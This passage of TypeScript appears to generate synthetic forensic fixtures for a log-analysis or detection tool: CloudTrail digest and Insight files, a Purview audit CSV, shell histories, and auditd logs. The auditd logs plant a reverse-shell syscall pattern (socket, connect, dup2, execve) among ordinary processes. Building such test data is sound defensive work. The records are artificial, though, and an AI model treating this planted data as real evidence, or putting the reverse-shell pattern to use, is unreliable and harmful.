      digestS3Object: `AWSLogs/${ACCOUNT}/CloudTrail-Digest/eu-west-1/${y}/${m}/${d}/x.json.gz`,
      digestPublicKeyFingerprint: "a5f5b1e2d6c3a4b5",
      digestSignatureAlgorithm: "SHA256withRSA",
      newestEventTime: `${y}-${m}-${d}T00:59:00Z`,
      oldestEventTime: `${y}-${m}-${d}T00:00:00Z`,
      previousDigestS3Bucket: null,
      previousDigestS3Object: null,
      previousDigestHashValue: null,
      previousDigestHashAlgorithm: null,
      previousDigestSignature: null,
      logFiles: [],
    };
    const name = `${ACCOUNT}_CloudTrail-Digest_eu-west-1_org-trail_eu-west-1_${y}${m}${d}T010000Z.json.gz`;
    write(
      join(root, ACCOUNT, "CloudTrail-Digest", "eu-west-1", y, m, d, name),
      gzipSync(JSON.stringify(digest)),
    );
  }
  const insight = {
    eventVersion: "1.07",
    eventTime: "2026-09-30T03:00:00Z",
    awsRegion: "eu-west-1",
    eventID: uuid(random),
    eventType: "AwsCloudTrailInsight",
    recipientAccountId: ACCOUNT,
    sharedEventID: uuid(random),
    insightDetails: {
      state: "Start",
      eventSource: "iam.amazonaws.com",
      eventName: "CreateAccessKey",
      insightType: "ApiCallRateInsight",
      insightContext: { statistics: { baseline: { average: 0.01 }, insight: { average: 3 } } },
    },
    eventCategory: "Insight",
  };
  write(
    join(
      root,
      ACCOUNT,
      "CloudTrail-Insight",
      "eu-west-1",
      "2026",
      "09",
      "30",
      `${ACCOUNT}_CloudTrail-Insight_eu-west-1_20260930T0300Z_x.json.gz`,
    ),
    gzipSync(JSON.stringify({ Records: [insight] })),
  );
  return { input: root, planted: plantedOf(planned), events: records.length };
}

/**
 * Purview's audit log as Exchange Online PowerShell exports it (`Search-UnifiedAuditLog | Export-Csv`):
 * RunspaceId, RecordType, CreationDate (PowerShell's `9/30/2026 5:45:27 PM`), UserIds, Operations,
 * AuditData (JSON text), ResultIndex, ResultCount, Identity, IsValid, ObjectState; every value quoted.
 */
export function writePurviewPowerShell(dir: string, seed: number): SampleExport {
  const planned = exchangePlan(seed);
  const random = planned.random;
  const quoted = (v: unknown) => `"${String(v ?? "").replace(/"/g, '""')}"`;
  const header = [
    "RunspaceId",
    "RecordType",
    "CreationDate",
    "UserIds",
    "Operations",
    "AuditData",
    "ResultIndex",
    "ResultCount",
    "Identity",
    "IsValid",
    "ObjectState",
  ];
  const rows = [header.map(quoted).join(",")];
  const events = timeline(planned);
  const runspace = uuid(random);
  for (const [i, { identity, ms, action }] of events.entries()) {
    const id = uuid(random);
    const d = new Date(ms);
    const h = d.getUTCHours();
    const pad = (n: number) => String(n).padStart(2, "0");
    const created = `${d.getUTCMonth() + 1}/${d.getUTCDate()}/${d.getUTCFullYear()} ${h % 12 === 0 ? 12 : h % 12}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${h < 12 ? "AM" : "PM"}`;
    const audit = {
      CreationTime: d.toISOString().slice(0, 19),
      Id: id,
      Operation: action.Operation,
      OrganizationId: "4a1c2b3d-0000-4000-a000-123456789abc",
      RecordType: 1,
      ResultStatus: "True",
      UserKey: "NT AUTHORITY\\SYSTEM (w3wp)",
      UserType: 2,
      Version: 1,
      Workload: "Exchange",
      ClientIP: "[2001:db8::1]:51234",
      ObjectId: "",
      UserId: identity,
      Parameters: action.Parameters,
    };
    rows.push(
      [
        runspace,
        "ExchangeAdmin",
        created,
        identity,
        action.Operation,
        JSON.stringify(audit),
        i + 1,
        events.length,
        id,
        "True",
        "Unchanged",
      ]
        .map(quoted)
        .join(","),
    );
  }
  const path = join(dir, "UnifiedAuditLog.csv");
  write(path, `\uFEFF${rows.join("\r\n")}\r\n`);
  return { input: path, planted: plantedOf(planned), events: events.length };
}

// ---------------------------------------------------------------- shell history files

/** One command as each shell writes it. */
const WRITERS = {
  bash: { path: ".bash_history", entry: (s: number, c: string) => `#${s}\n${c}\n` },
  zsh: { path: ".zsh_history", entry: (s: number, c: string) => `: ${s}:0;${c.replace(/\n/g, "\\\n")}\n` },
  fish: {
    path: ".local/share/fish/fish_history",
    entry: (s: number, c: string) =>
      `- cmd: ${c.replace(/\\/g, "\\\\").replace(/\n/g, "\\n")}\n  when: ${s}\n`,
  },
} as const;
const SHELLS = ["bash", "zsh", "fish"] as const;

/**
 * Writes each account's history on each host as its shell would, at `<root>/<host>/home/<user>/`: users take
 * turns with bash (`#<epoch>` lines), zsh (extended history) and fish. Returns each `user host`'s file.
 */
export function writeShellHistories(root: string, rows: readonly ShellHistoryRow[]): Map<string, string> {
  const users = [...new Set(rows.map((r) => r.user))].sort();
  const files = new Map<string, string[]>();
  const fileOf = new Map<string, string>();
  for (const r of rows) {
    const shell = WRITERS[SHELLS[users.indexOf(r.user) % SHELLS.length] as (typeof SHELLS)[number]];
    const path = join(root, r.host, "home", r.user, shell.path);
    files.set(path, [
      ...(files.get(path) ?? []),
      shell.entry(Math.floor(Date.parse(r.time) / 1000), r.command_line),
    ]);
    fileOf.set(`${r.user} ${r.host}`, path);
  }
  for (const [path, entries] of files) {
    mkdirSync(join(path, ".."), { recursive: true });
    writeFileSync(path, entries.join(""));
  }
  return fileOf;
}

// ---------------------------------------------------------------- Linux audit logs

/** x86_64 numbers of the calls the processes make (checked against the reader's table below). */
export const AUDIT_X86_64: Record<string, number> = {
  read: 0,
  write: 1,
  open: 2,
  close: 3,
  fstat: 5,
  mmap: 9,
  brk: 12,
  dup2: 33,
  socket: 41,
  connect: 42,
  execve: 59,
  exit_group: 231,
  openat: 257,
};

/** Ordinary programs: what each process of them calls, in order. */
export const AUDIT_PROGRAMS: Record<string, string[]> = {
  cat: [
    "execve",
    "brk",
    "openat",
    "fstat",
    "mmap",
    "close",
    "openat",
    "read",
    "write",
    "read",
    "close",
    "exit_group",
  ],
  ls: [
    "execve",
    "brk",
    "openat",
    "mmap",
    "close",
    "open",
    "fstat",
    "read",
    "read",
    "close",
    "write",
    "exit_group",
  ],
  cron: [
    "execve",
    "brk",
    "mmap",
    "openat",
    "read",
    "close",
    "openat",
    "read",
    "write",
    "close",
    "exit_group",
  ],
};
export const REVERSE_SHELL = [
  "execve",
  "brk",
  "socket",
  "connect",
  "dup2",
  "dup2",
  "dup2",
  "execve",
  "brk",
  "read",
  "write",
  "exit_group",
];

/** One SYSCALL record as auditd writes it: enriched (a group separator, then interpreted fields) or raw. */
export function auditRecord(
  host: string,
  time: number,
  serial: number,
  pid: number,
  call: string,
  exe: string,
  enriched: boolean,
) {
  const raw = `node=${host} type=SYSCALL msg=audit(${time.toFixed(3)}:${serial}): arch=c000003e syscall=${AUDIT_X86_64[call]} success=yes exit=0 a0=3 a1=7ffd a2=0 a3=0 items=1 ppid=1 pid=${pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4 comm="${exe.split("/").pop()}" exe="${exe}" subj=unconfined key=(null)`;
  return enriched ? `${raw}\u001dARCH=x86_64 SYSCALL=${call} AUID="alice" UID="root"` : raw;
}

/** Writes processes' records (and a PROCTITLE after each) from `start`; returns how many calls it wrote. */
export function writeAuditLog(path: string, processes: readonly AuditProcess[], start: number) {
  const lines: string[] = [];
  let time = start;
  let serial = 1;
  for (const p of processes) {
    for (const call of p.calls) {
      time += 0.01;
      lines.push(auditRecord(p.host, time, serial, p.pid, call, p.exe, serial % 2 === 0));
      lines.push(
        `node=${p.host} type=PROCTITLE msg=audit(${time.toFixed(3)}:${serial}): proctitle=2F62696E2F6C73`,
      );
      serial++;
    }
    time += 600; // each process its own session
  }
  writeFileSync(path, `${lines.join("\n")}\n`);
  return processes.reduce((n, p) => n + p.calls.length, 0);
}

/** A process of an audit log: its host, pid, program and calls in order. */
export interface AuditProcess {
  readonly host: string;
  readonly pid: number;
  readonly exe: string;
  readonly calls: readonly string[];
}

/** `count` processes of the ordinary programs in turn on `host`, pids from `from`. */
export function ordinaryProcesses(count: number, from: number, host: string): AuditProcess[] {
  const names = Object.keys(AUDIT_PROGRAMS);
  return Array.from({ length: count }, (_, i) => {
    const program = names[i % names.length] as string;
    return { host, pid: from + i, exe: `/usr/bin/${program}`, calls: AUDIT_PROGRAMS[program] as string[] };
  });
}

/**
 * A host's audit folder at `<dir>/audit`: `audit.log.1` (60 ordinary processes) and `audit.log` (60 more and
 * a reverse shell, pid 4444). Returns the calls written.
 */
export function writeAuditLogs(dir: string, _seed = 1): number {
  const root = join(dir, "audit");
  mkdirSync(root, { recursive: true });
  return (
    writeAuditLog(join(root, "audit.log.1"), ordinaryProcesses(60, 1000, "web-01"), 1764700000) +
    writeAuditLog(
      join(root, "audit.log"),
      [
        ...ordinaryProcesses(60, 2000, "web-02"),
        { host: "web-02", pid: 4444, exe: "/usr/bin/bash", calls: REVERSE_SHELL },
      ],
      1764800000,
    )
  );
}
